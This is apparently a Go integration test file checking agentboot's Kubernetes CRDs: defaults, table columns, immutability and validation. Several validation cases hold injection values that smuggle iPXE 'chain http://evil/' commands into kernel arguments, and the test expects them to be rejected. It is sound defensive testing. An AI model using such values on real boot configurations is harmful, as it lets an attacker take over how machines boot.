// Package api_test checks agentboot's CRDs on a real kube-apiserver: the
// fields, defaults, printer columns and validation that users rely on.
package api_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	v1beta1 "github.com/agentboot/agentboot/api/agentinstall/v1beta1"
	metal3 "github.com/agentboot/agentboot/api/metal3/v1alpha1"
	"github.com/agentboot/agentboot/test/testenv"
)

var env *testenv.Env

func TestMain(m *testing.M) {
	var err error
	env, err = testenv.Start(testenv.Options{HyperShift: true})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	code := m.Run()
	_ = env.Stop()
	os.Exit(code)
}

func newNamespace(t *testing.T) string {
	t.Helper()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "api-"}}
	require.NoError(t, env.Client.Create(context.Background(), ns))
	return ns.Name
}

func infraEnv(ns, name string) *v1beta1.InfraEnv {
	return &v1beta1.InfraEnv{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: v1beta1.InfraEnvSpec{
			PullSecretRef: &corev1.LocalObjectReference{Name: "pull-secret"},
		},
	}
}

func agent(ns, name string) *v1beta1.Agent {
	return &v1beta1.Agent{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{v1beta1.InfraEnvNameLabel: "hardware-inventory"}},
		Spec:       v1beta1.AgentSpec{Role: v1beta1.AgentRoleAutoAssign},
	}
}

func TestInfraEnvDefaults(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	// Applied as users write it, so that omitted fields get their defaults.
	_, err := env.Kubectl(ctx, infraEnvYAML(ns, "sshAuthorizedKey: ssh-ed25519 AAAA"), "apply", "-f", "-")
	require.NoError(t, err)

	var got v1beta1.InfraEnv
	require.NoError(t, env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "env"}, &got))
	require.Equal(t, "x86_64", got.Spec.CPUArchitecture)
	require.Equal(t, v1beta1.DiscoveryImageAlways, got.Spec.IPXEScriptType)

	// Status is a subresource, written apart from the spec, with exact names.
	got.Status.ISODownloadURL = "https://images.example/iso"
	got.Status.BootArtifacts.IpxeScriptURL = "http://images.example/ipxe"
	require.NoError(t, env.Client.Status().Update(ctx, &got))
	out, err := env.Kubectl(ctx, "", "-n", ns, "get", "infraenv", "env", "-o", "jsonpath={.status.isoDownloadURL} {.status.bootArtifacts.ipxeScript}")
	require.NoError(t, err)
	require.Equal(t, "https://images.example/iso http://images.example/ipxe", out)
}

func TestApprovalPatch(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	a := agent(ns, "8fc583b5-b7e7-0cf4-8068-179ea6e069e8")
	require.NoError(t, env.Client.Create(ctx, a))

	var got v1beta1.Agent
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(a), &got))
	require.False(t, got.Spec.Approved)
	// The field is always present, as users' jsonpath queries expect.
	out, err := env.Kubectl(ctx, "", "-n", ns, "get", "agent", a.Name, "-o", "jsonpath={.spec.approved}")
	require.NoError(t, err)
	require.Equal(t, "false", out)

	_, err = env.Kubectl(ctx, "", "-n", ns, "patch", "agent", a.Name, "--type", "merge", "--patch", `{"spec":{"approved":true}}`)
	require.NoError(t, err)
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(a), &got))
	require.True(t, got.Spec.Approved)
	require.Equal(t, v1beta1.AgentRoleAutoAssign, got.Spec.Role, "the patch changes nothing else")
}

func TestAgentTableColumns(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)

	bound := agent(ns, "234d87fe-73a2-85ec-e57a-3a0a3c8aaf1f")
	bound.Spec.Approved = true
	bound.Spec.Role = v1beta1.AgentRoleWorker
	bound.Spec.ClusterDeploymentName = &v1beta1.ClusterReference{Name: "vcluster1", Namespace: "clusters"}
	require.NoError(t, env.Client.Create(ctx, bound))
	bound.Status.Role = v1beta1.AgentRoleWorker
	bound.Status.Progress.CurrentStage = v1beta1.StageDone
	require.NoError(t, env.Client.Status().Update(ctx, bound))

	free := agent(ns, "8fc583b5-b7e7-0cf4-8068-179ea6e069e8")
	free.Spec.Approved = true
	require.NoError(t, env.Client.Create(ctx, free))
	free.Status.Role = v1beta1.AgentRoleAutoAssign
	require.NoError(t, env.Client.Status().Update(ctx, free))

	// The Table API, as kubectl and consoles read it.
	hc, err := rest.HTTPClientFor(env.Config)
	require.NoError(t, err)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, strings.TrimSuffix(env.Config.Host, "/")+"/apis/agent-install.openshift.io/v1beta1/namespaces/"+ns+"/agents", nil)
	require.NoError(t, err)
	req.Header.Set("Accept", "application/json;as=Table;g=meta.k8s.io;v=v1")
	resp, err := hc.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	var table metav1.Table
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&table))
	require.Equal(t, "Table", table.Kind)

	var cols []string
	for _, c := range table.ColumnDefinitions {
		if c.Priority == 0 {
			cols = append(cols, c.Name)
		}
	}
	require.Equal(t, []string{"Name", "Cluster", "Approved", "Role", "Stage"}, cols)
	rows := map[string][]any{}
	for _, r := range table.Rows {
		rows[r.Cells[0].(string)] = r.Cells
	}
	require.Equal(t, []any{bound.Name, "vcluster1", true, "worker", "Done"}, rows[bound.Name][:5])
	require.Equal(t, []any{free.Name, nil, true, "auto-assign", nil}, rows[free.Name][:5])

	// And as users see it.
	out, err := env.Kubectl(ctx, "", "-n", ns, "get", "agents")
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 3)
	require.Equal(t, []string{"NAME", "CLUSTER", "APPROVED", "ROLE", "STAGE"}, strings.Fields(lines[0]))
	require.Equal(t, []string{bound.Name, "vcluster1", "true", "worker", "Done"}, strings.Fields(lines[1]))
	require.Equal(t, []string{free.Name, "true", "auto-assign"}, strings.Fields(lines[2]))
}

func TestValidationRejects(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	cases := map[string]struct {
		manifest string
		want     []string // substrings of the error, the field path first
	}{
		"unknown architecture": {
			manifest: infraEnvYAML(ns, "cpuArchitecture: sparc"),
			want:     []string{"spec.cpuArchitecture", `Unsupported value: "sparc"`},
		},
		"unknown imageType": {
			manifest: infraEnvYAML(ns, "imageType: tiny-iso"),
			want:     []string{"spec.imageType", `Unsupported value: "tiny-iso"`},
		},
		"unknown ipxeScriptType": {
			manifest: infraEnvYAML(ns, "ipxeScriptType: Sometimes"),
			want:     []string{"spec.ipxeScriptType", "Unsupported value"},
		},
		"kernel argument with a newline": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - operation: append\n    value: \"console=ttyS0\\nchain http://evil/\""),
			want:     []string{"spec.kernelArguments[0].value", "no newline"},
		},
		"kernel argument with a hash": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: \"a=b#c\""),
			want:     []string{"spec.kernelArguments[0].value", "'#'"},
		},
		"kernel argument with a bare space": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: \"a=b c=d\""),
			want:     []string{"spec.kernelArguments[0].value"},
		},
		"kernel argument hiding an iPXE command separator in quotes": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: 'x=\"a ; chain http://evil/\"'"),
			want:     []string{"spec.kernelArguments[0].value", "iPXE command separators"},
		},
		"kernel argument with &&": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: 'x=\"a && chain http://evil/\"'"),
			want:     []string{"spec.kernelArguments[0].value", "iPXE command separators"},
		},
		"kernel argument expanding an iPXE setting": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: 'x=${filename}'"),
			want:     []string{"spec.kernelArguments[0].value", "iPXE settings expansion"},
		},
		"unknown kernel argument operation": {
			manifest: infraEnvYAML(ns, "kernelArguments:\n  - operation: prepend\n    value: a=b"),
			want:     []string{"spec.kernelArguments[0].operation", "Unsupported value"},
		},
		"missing pullSecretRef": {
			manifest: fmt.Sprintf("apiVersion: agent-install.openshift.io/v1beta1\nkind: InfraEnv\nmetadata: {name: nopull, namespace: %s}\nspec:\n  sshAuthorizedKey: ssh-ed25519 AAAA\n", ns),
			want:     []string{"spec.pullSecretRef", "Required value"},
		},
		"bad NMStateConfig MAC": {
			manifest: fmt.Sprintf("apiVersion: agent-install.openshift.io/v1beta1\nkind: NMStateConfig\nmetadata: {name: bad-mac, namespace: %s}\nspec:\n  interfaces:\n  - name: eth0\n    macAddress: 52:54:00:zz:00:01\n  config: {}\n", ns),
			want:     []string{"spec.interfaces[0].macAddress", "should match"},
		},
		"NMStateConfig without interfaces": {
			manifest: fmt.Sprintf("apiVersion: agent-install.openshift.io/v1beta1\nkind: NMStateConfig\nmetadata: {name: no-if, namespace: %s}\nspec:\n  interfaces: []\n", ns),
			want:     []string{"spec.interfaces", "at least 1 items"},
		},
		"bad BareMetalHost boot MAC": {
			manifest: bmhYAML(ns, "52:54:00:00:00:01:ff"),
			want:     []string{"spec.bootMACAddress", "should match"},
		},
		"unknown agent role": {
			manifest: fmt.Sprintf("apiVersion: agent-install.openshift.io/v1beta1\nkind: Agent\nmetadata: {name: role, namespace: %s}\nspec:\n  approved: false\n  role: janitor\n", ns),
			want:     []string{"spec.role", `Unsupported value: "janitor"`},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := env.Kubectl(ctx, tc.manifest, "apply", "-f", "-")
			require.Error(t, err)
			for _, w := range tc.want {
				require.Contains(t, err.Error(), w)
			}
		})
	}

	t.Run("accepted kernel arguments", func(t *testing.T) {
		_, err := env.Kubectl(ctx, infraEnvYAML(ns, "kernelArguments:\n  - value: console=ttyS0,115200n8\n  - operation: append\n    value: 'rd.break=\"a b\"'"), "apply", "-f", "-")
		require.NoError(t, err)
	})
}

func TestCPUArchitectureImmutable(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	ie := infraEnv(ns, "arm")
	ie.Spec.CPUArchitecture = v1beta1.CPUArchitectureAarch64
	require.NoError(t, env.Client.Create(ctx, ie))

	_, err := env.Kubectl(ctx, "", "-n", ns, "patch", "infraenv", "arm", "--type", "merge", "--patch", `{"spec":{"cpuArchitecture":"x86_64"}}`)
	require.Error(t, err)
	require.Contains(t, err.Error(), "cpuArchitecture is immutable")

	// Removing the field would default it to x86_64: also a change.
	_, err = env.Kubectl(ctx, "", "-n", ns, "patch", "infraenv", "arm", "--type", "json", "--patch", `[{"op":"remove","path":"/spec/cpuArchitecture"}]`)
	require.Error(t, err)
	require.Contains(t, err.Error(), "cpuArchitecture is immutable")

	// Other fields stay mutable.
	_, err = env.Kubectl(ctx, "", "-n", ns, "patch", "infraenv", "arm", "--type", "merge", "--patch", `{"spec":{"sshAuthorizedKey":"ssh-ed25519 AAAA"}}`)
	require.NoError(t, err)
}

func TestBareMetalHostShortNameAndDefaults(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	_, err := env.Kubectl(ctx, bmhYAML(ns, "52:54:00:00:00:01"), "apply", "-f", "-")
	require.NoError(t, err)
	var bmh metal3.BareMetalHost
	require.NoError(t, env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "worker-0"}, &bmh))
	require.Equal(t, metal3.AutomatedCleaningMode("metadata"), bmh.Spec.AutomatedCleaningMode)
	out, err := env.Kubectl(ctx, "", "-n", ns, "get", "bmh")
	require.NoError(t, err)
	require.Equal(t, []string{"NAME", "STATE", "CONSUMER", "ONLINE", "ERROR", "AGE"}, strings.Fields(strings.SplitN(out, "\n", 2)[0]))
}

func infraEnvYAML(ns, specExtra string) string {
	indented := "  " + strings.ReplaceAll(specExtra, "\n", "\n  ")
	return fmt.Sprintf("apiVersion: agent-install.openshift.io/v1beta1\nkind: InfraEnv\nmetadata: {name: env, namespace: %s}\nspec:\n  pullSecretRef: {name: pull-secret}\n%s\n", ns, indented)
}

func bmhYAML(ns, mac string) string {
	return fmt.Sprintf(`apiVersion: metal3.io/v1alpha1
kind: BareMetalHost
metadata:
  name: worker-0
  namespace: %s
  labels:
    infraenvs.agent-install.openshift.io: hardware-inventory
spec:
  online: true
  bootMACAddress: "%s"
  bmc:
    address: redfish-virtualmedia+http://198.18.0.10:8000/redfish/v1/Systems/1
    credentialsName: worker-0-bmc
`, ns, mac)
}
